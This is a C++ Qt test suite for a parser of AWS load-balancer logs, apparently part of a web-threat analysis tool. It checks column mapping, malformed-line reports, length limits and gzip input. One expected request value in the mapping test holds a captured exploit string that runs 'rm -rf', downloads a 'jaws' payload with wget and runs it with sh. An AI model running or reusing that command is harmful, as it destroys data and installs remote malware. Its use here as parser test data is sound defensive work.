// core/io/elblogreader: ALB/NLB access logs and ALB connection logs, each field into its column,
// bad lines and cells reported with their line numbers, any block size and line end, gzip through
// the streaming decompressor. The fixture is AWS's documentation samples with deliberate edge cases.
#include "core/io/elblogreader.h"

#include "core/io/logtable.h"
#include "readertesting.h"

#include <QTest>

using namespace webthreat;
using namespace webthreat::testing;

namespace {

// The reader over text in memory, handed out `chunk` bytes at a time.
ReadResult readElb(std::string_view text, std::size_t chunk = 1u << 20, std::size_t blockBytes = 16u << 20)
{
    std::size_t offset = 0;
    ReadOptions options;
    options.blockBytes = blockBytes;
    return readElbLog(
        readerOver(text, offset, chunk),
        [&] { return text.empty() ? 0.0 : static_cast<double>(offset) / static_cast<double>(text.size()); }, "test.log",
        options);
}

const std::string kAlbLine = "http 2024-01-01T00:00:00Z app/lb/1 203.0.113.9:1000 10.0.0.1:80 0.1 0.2 0.3 200 200 1 2 "
                             "\"GET / HTTP/1.1\" \"curl\"\n";

} // namespace

class TestElbLogReader : public QObject {
    Q_OBJECT

private Q_SLOTS:
    // A line of more fields than any log has is skipped as malformed, split no further than that.
    void lineOfManyFieldsSkipped()
    {
        std::string many = "http";
        for (int i = 0; i < 100000; ++i)
            many += " x";
        const std::string text = kAlbLine + many + "\n" + kAlbLine;
        const ReadResult read = readElb(text);
        QCOMPARE(read.table.rowCount(), std::size_t(2));
        QCOMPARE(read.report.malformed.count, std::size_t(1));
        QCOMPARE(read.report.malformed.firstLines, (std::vector<std::int64_t>{2}));
        QCOMPARE(read.report.malformed.firstFieldCounts, (std::vector<std::size_t>{kMaxLogFields + 1}));
    }

    // Issue 17: a line longer than the limit for one record (made small here) is refused with the
    // file, the line where it starts and the limit, whatever the blocks, with or without a line end.
    void lineOverLimitRefused_data()
    {
        QTest::addColumn<QByteArray>("text");
        const std::string longLine(5000, 'x');
        QTest::newRow("no line end") << QByteArray::fromStdString(kAlbLine + kAlbLine + longLine);
        QTest::newRow("then more lines") << QByteArray::fromStdString(kAlbLine + kAlbLine + longLine + "\n" + kAlbLine);
        QTest::newRow("blanks") << QByteArray::fromStdString(kAlbLine + kAlbLine + std::string(5000, ' ') + "\r\n"
                                                             + kAlbLine);
    }

    void lineOverLimitRefused()
    {
        QFETCH(QByteArray, text);
        const std::string bytes = text.toStdString();
        for (const std::size_t blockBytes : {std::size_t(64), std::size_t(16) << 20}) {
            for (const std::size_t chunk : {std::size_t(7), std::size_t(1) << 20}) {
                std::size_t offset = 0;
                ReadOptions options;
                options.blockBytes = blockBytes;
                options.maxRecordBytes = 4096;
                const QString message
                    = errorOf([&] { readElbLog(readerOver(bytes, offset, chunk), {}, "long.log", options); });
                QCOMPARE(message,
                         QString("long.log:3: a record longer than 4 KiB (the limit for one record) starts "
                                 "on this line: is the file missing its line ends, or not a text log?"));
            }
        }
        // A line just under the limit is read.
        std::size_t offset = 0;
        ReadOptions options;
        options.maxRecordBytes = 4096;
        const std::string fine = kAlbLine + kAlbLine;
        QCOMPARE(readElbLog(readerOver(fine, offset), {}, "fine.log", options).report.lines, std::int64_t(2));
    }

    void mapping()
    {
        const ReadResult read = readElb(fixtureBytes("alb_nlb_elb_mixed_test.log"));
        QCOMPARE(QString::fromStdString(read.report.format),
                 "AWS load balancer logs (3 ALB access, 4 NLB access, 3 ALB connection entries)");
        QCOMPARE(read.table.rowCount(), std::size_t(10));
        QCOMPARE(read.report.lines, std::int64_t(10));
        QCOMPARE(read.report.malformed.count, std::size_t(0));
        // ALB access log.
        QCOMPARE(cell(read, "source.meta", 0), "AWS_ALB");
        QCOMPARE(cell(read, "protocol", 0), "HTTP");
        QCOMPARE(cell(read, "src_ip", 0), "192.168.131.39");
        QCOMPARE(cell(read, "src_port", 0), "2817");
        QCOMPARE(cell(read, "dst_ip", 0), "10.0.0.1");
        QCOMPARE(cell(read, "dst_port", 0), "80");
        QCOMPARE(cell(read, "bytes_in", 0), "34");
        QCOMPARE(cell(read, "bytes_out", 0), "366");
        QCOMPARE(cell(read, "response.code", 0), "200");
        QCOMPARE(cell(read, "creation_time", 0), "2018-07-02T22:22:48.364Z");
        QCOMPARE(cell(read, "end_time", 0), "2018-07-02T22:23:00.186641Z");
        QCOMPARE(cell(read, "source.name", 0), "app/my-loadbalancer/50dc6c495c0c9188");
        QCOMPARE(cell(read, "request", 0), "GET http://www.example.com:80/ HTTP/1.1");
        QCOMPARE(cell(read, "user_agent", 0), "curl/7.46.0");
        QCOMPARE(cell(read, "actions_executed", 0), "forward,redirect");
        QCOMPARE(cell(read, "target:port_list", 0), "10.0.0.1:80");
        // Answered by the load balancer itself: no target, -1 timings kept as written.
        QCOMPARE(cell(read, "dst_ip", 1), "");
        QCOMPARE(cell(read, "dst_port", 1), "");
        QCOMPARE(cell(read, "response.code", 1), "301");
        QCOMPARE(cell(read, "target_status_code", 1), "");
        QCOMPARE(cell(read, "request_processing_time", 1), "-1");
        QCOMPARE(cell(read, "user_agent", 1), "Hello, world");
        QCOMPARE(cell(read, "request", 1),
                 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1");
        QCOMPARE(cell(read, "classification_reason", 1), "SpaceInUri");
        QVERIFY(anyWarningContains(read.report, "5 entries name no destination address (first on line 2)"));
        // NLB TLS entries: destination is the listener, creation from tls_connection_creation_time.
        QCOMPARE(cell(read, "source.meta", 2), "AWS_NLB");
        QCOMPARE(cell(read, "protocol", 2), "TLS");
        QCOMPARE(cell(read, "dst_ip", 2), "10.0.0.1");
        QCOMPARE(cell(read, "bytes_in", 2), "98");
        QCOMPARE(cell(read, "bytes_out", 2), "246");
        QCOMPARE(cell(read, "creation_time", 2), "2018-12-20T02:59:30Z");
        QCOMPARE(cell(read, "end_time", 2), "2018-12-20T02:59:40Z");
        QCOMPARE(cell(read, "tls_protocol_version", 2), "tlsv12");
        QCOMPARE(cell(read, "alpn_client_preference_list", 3), "\"h2\",\"http/1.1\"");
        QCOMPARE(cell(read, "domain_name", 4),
                 "[oauthce.eu-central-1.XXXX.c1.XXXXX.com](https://oauthce.eu-central-1.xxxx.c1.xxxxx.com/)");
        QCOMPARE(cell(read, "alpn_client_preference_list", 4), "\\\"http/1.1\\\"");
        QCOMPARE(cell(read, "tls_handshake_time", 5), "");
        QCOMPARE(cell(read, "bytes_in", 5), "0");
        // ALB connection log: no destination address, the listener port as dst_port.
        QCOMPARE(cell(read, "source.meta", 6), "AWS_ALB");
        QCOMPARE(cell(read, "src_ip", 6), "192.168.131.39");
        QCOMPARE(cell(read, "src_port", 6), "36280");
        QCOMPARE(cell(read, "dst_port", 6), "443");
        QCOMPARE(cell(read, "dst_ip", 6), "");
        QCOMPARE(cell(read, "bytes_in", 6), "");
        QCOMPARE(cell(read, "creation_time", 6), "2024-10-04T17:05:15.514108Z");
        QCOMPARE(cell(read, "tls_verify_status", 6), "Success");
        QCOMPARE(cell(read, "leaf_client_cert_subject", 6),
                 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US");
        QCOMPARE(cell(read, "tls_verify_status", 7), "Failed:ClientCertUntrusted");
        QCOMPARE(cell(read, "conn_trace_id", 8), "TID_16132ed0b4112148");
        QCOMPARE(cell(read, "protocol", 8), "");
        // The last line has no line end and a request line that is not one.
        QCOMPARE(cell(read, "request", 9), "- http://internal-service-alb.example.com:80-/ ");
        QCOMPARE(cell(read, "conn_trace_id", 9), "TID_00000000000000000000000000000000");
        QCOMPARE(cell(read, "response.code", 9), "200");
    }

    // The same text handed out a few bytes at a time through the smallest blocks reads the same.
    void blockSizeDoesNotMatter()
    {
        const std::string text = fixtureBytes("alb_nlb_elb_mixed_test.log");
        compareTables(readElb(text, 7, 64), readElb(text));
    }

    // gzip input: the reader over the streaming decompressor gives the plain file's table.
    void gzipInput()
    {
        const std::string compressed = fixtureBytes("alb_nlb_elb_mixed.log.gz");
        QVERIFY(isGzip(compressed));
        std::size_t offset = 0;
        GzipReader gzip(readerOver(compressed, offset, 100), "mixed.log.gz", 0);
        ReadOptions options;
        options.blockBytes = 64;
        const ReadResult read = readElbLog([&](char* into, std::size_t capacity) { return gzip.read(into, capacity); },
                                           [] { return 0.0; }, "mixed.log.gz", options);
        compareTables(read, readElb(fixtureBytes("alb_nlb_elb_mixed_test.log")));
        QCOMPARE(gzip.members(), 1);
    }

    void formatNamesOnlyTheKindsPresent()
    {
        const ReadResult read = readElb(kAlbLine + kAlbLine);
        QCOMPARE(QString::fromStdString(read.report.format), "AWS load balancer logs (2 ALB access entries)");
        QCOMPARE(read.report.rows, std::size_t(2));
    }

    void badLines()
    {
        const std::string text = "https 2024-01-01T00:00:00.000000Z app/lb/1 203.0.113.9:1000 10.0.0.1:443 0.1 0.2 0.3 "
                                 "404 404 12 34 "
                                 "\"GET https://x:443/a HTTP/2.0\" \"Mozilla \\\"quoted\\\" agent\" - -\n" // 1
                                 "https 2024-01-01T00:00:01Z app/lb/1 203.0.113.9:1001 10.0.0.1:443 0.1 0.2 0.3 200 "
                                 "200 12 34 \"GET /\n" // 2
                                 "h2 2024-01-01T00:00:02Z app/lb/1 203.0.113.9:1002\n" // 3
                                 "GET / HTTP/1.1\n" // 4
                                 "wss 2024-01-01T00:00:03Z app/lb/1 nonsense 10.0.0.1:443 0.1 0.2 0.3 abc 200 x 34 "
                                 "\"GET / HTTP/1.1\"\n"; // 5
        const ReadResult read = readElb(text);
        QCOMPARE(read.table.rowCount(), std::size_t(2));
        QCOMPARE(read.table.sourceLines, (std::vector<std::uint32_t>{1, 5}));
        QCOMPARE(cell(read, "user_agent", 0), "Mozilla \"quoted\" agent");
        QCOMPARE(cell(read, "protocol", 0), "HTTPS");
        QCOMPARE(cell(read, "response.code", 0), "404");
        QCOMPARE(read.report.malformed.count, std::size_t(3));
        QCOMPARE(read.report.malformed.firstLines, (std::vector<std::int64_t>{2, 3, 4}));
        QVERIFY(anyWarningContains(read.report,
                                   "3 line(s) skipped for not being load-balancer log entries (first: line 2 "
                                   "has a quoted field that is never closed): line(s) 2"));
        QCOMPARE(cell(read, "protocol", 1), "WSS");
        QCOMPARE(cell(read, "src_ip", 1), "");
        QCOMPARE(read.report.invalidCellCount(), std::size_t(3));
        QVERIFY(anyWarningContains(read.report,
                                   "column 'client:port' could not be read and are treated as missing "
                                   "(first: 'nonsense', not address:port; line(s) 5)"));
        QVERIFY(anyWarningContains(read.report, "column 'elb_status_code'"));
        QVERIFY(anyWarningContains(read.report, "column 'received_bytes'"));
    }

    void nothingReadableIsRefused()
    {
        const QString none = errorOf([] { readElb("GET / HTTP/1.1\nHost: x\n"); });
        QVERIFY2(
            none.startsWith("test.log:1: no line of the file is an ALB or NLB access-log or ALB connection-log entry"),
            qPrintable(none));
    }

    void longLinesAndLineEnds()
    {
        // A user agent far longer than a block, and CR-only line ends.
        const std::string agent(20000, 'a');
        const std::string alb
            = "http 2024-01-01T00:00:00Z app/lb/1 203.0.113.9:1000 10.0.0.1:80 0.1 0.2 0.3 200 200 1 2 "
              "\"GET / HTTP/1.1\" \""
            + agent + "\"\r";
        const ReadResult read = readElb(alb + alb + alb, 1000, 64);
        QCOMPARE(read.table.rowCount(), std::size_t(3));
        QCOMPARE(read.table.sourceLines, (std::vector<std::uint32_t>{1, 2, 3}));
        QCOMPARE(cell(read, "user_agent", 2).size(), 20000);
    }

    void looksLikeEntry_data()
    {
        QTest::addColumn<QString>("line");
        QTest::addColumn<bool>("entry");
        QTest::newRow("alb h2") << "h2 2024-01-01T00:00:00Z app/lb/1 1.2.3.4:5 - -1 -1 -1 200 - 0 0 \"-\"" << true;
        for (const char* type : {"http", "https", "grpcs", "ws", "wss"})
            QTest::addRow("alb %s", type)
                << QString::fromLatin1(type) + " 2024-01-01T00:00:00Z app/lb/1 1.2.3.4:5" << true;
        QTest::newRow("nlb tls") << "tls 2.0 2024-01-01T00:00:00 net/lb/1 l 1.2.3.4:5 6.7.8.9:443" << true;
        QTest::newRow("connection log") << "2024-01-01T00:00:00.000Z 1.2.3.4 5000 443 - - - \"-\"" << true;
        QTest::newRow("unknown type") << "ftp 2024-01-01T00:00:00Z app/lb/1 1.2.3.4:5" << false;
        QTest::newRow("alb without a time") << "http yesterday app/lb/1 1.2.3.4:5" << false;
        QTest::newRow("tls, time in the wrong place") << "tls 2024-01-01T00:00:00 net/lb/1 l" << false;
        QTest::newRow("three fields") << "http 2024-01-01T00:00:00Z app/lb/1" << false;
        QTest::newRow("quote never closed") << "http 2024-01-01T00:00:00Z app/lb/1 \"GET /" << false;
        QTest::newRow("connection log, port not a number") << "2024-01-01T00:00:00Z 1.2.3.4 http 443" << false;
        QTest::newRow("connection log, no address") << "2024-01-01T00:00:00Z host 5000 443" << false;
        QTest::newRow("request line") << "GET / HTTP/1.1" << false;
        QTest::newRow("csv header") << "bytes_in,bytes_out,src_ip" << false;
    }

    void looksLikeEntry()
    {
        QFETCH(QString, line);
        QFETCH(bool, entry);
        QCOMPARE(looksLikeElbEntry(line.toStdString()), entry);
    }
};

QTEST_GUILESS_MAIN(TestElbLogReader)
#include "tst_elblogreader.moc"
